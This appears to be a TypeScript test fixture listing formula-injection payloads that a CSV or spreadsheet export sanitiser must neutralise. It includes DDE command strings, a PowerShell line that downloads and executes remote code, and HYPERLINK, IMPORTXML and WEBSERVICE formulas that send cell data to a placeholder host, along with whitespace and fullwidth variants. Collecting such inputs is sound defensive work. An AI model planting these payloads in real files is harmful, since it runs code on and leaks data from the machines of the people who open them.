/** What a spreadsheet would run if a text began a cell with it. */
const BARE: readonly string[] = [
  '=1+1',
  '=A1',
  '=cmd|\u0027 /C calc\u0027!A0',
  '=cmd|"/C powershell IEX(wget 0r.pe/p)"!A0',
  '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
  '=HYPERLINK("https://exemple.invalid","x")',
  '=LIEN_HYPERTEXTE("https://exemple.invalid")',
  '=IMPORTXML(CONCAT("http://exemple.invalid?v=";A1);"//a")',
  '=WEBSERVICE("https://exemple.invalid/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=SUM(1+9)*cmd|\u0027 /C calc\u0027!A0',
  '=MSEXCEL|\u0027\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\u0027!\u0027\u0027',
  '+1+1',
  '+cmd|\u0027 /C calc\u0027!A0',
  '+33 5 65 53 20 65',
  '-1+1',
  '-2+3+cmd|\u0027 /C calc\u0027!A0',
  '-12 par rapport à l’an dernier',
  '-5',
  '@SUM(1+1)',
  '@SUM(1+1)*cmd|\u0027 /C calc\u0027!A0',
  '@exemple',
  '=',
  '+',
  '-',
  '@',
  '|calc',
  '%0A=1+1',
  '=1+1";=2+2',
  '="";=1+1',
  '=1;2',
  '=1\r\n=2',
  '=«\u00a0x\u00a0»',
];

/** What may stand before it and still let it run. */
const AFTER: readonly string[] = [
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u202f=1+1',
  '\u2003=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u2028=1+1',
  ' \t\r\n =1+1',
  '\t+1',
  ' -1',
  '\n@SUM(1)',
  '\ttexte',
  '\rtexte',
  '\ntexte',
];

/** Other forms of the same signs. */
const WIDE: readonly string[] = ['\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)', ' \uff1d1+1'];

/** What was already made harmless, which must come back as it was. */
const DISARMED: readonly string[] = ["'=1+1", "''=1+1", "' =1+1", "'-5", "'\t=1", "'@x"];

/** Texts that no file may let a spreadsheet run: more than sixty. */
export const FORMULAS: readonly string[] = [...BARE, ...AFTER, ...WIDE, ...DISARMED];
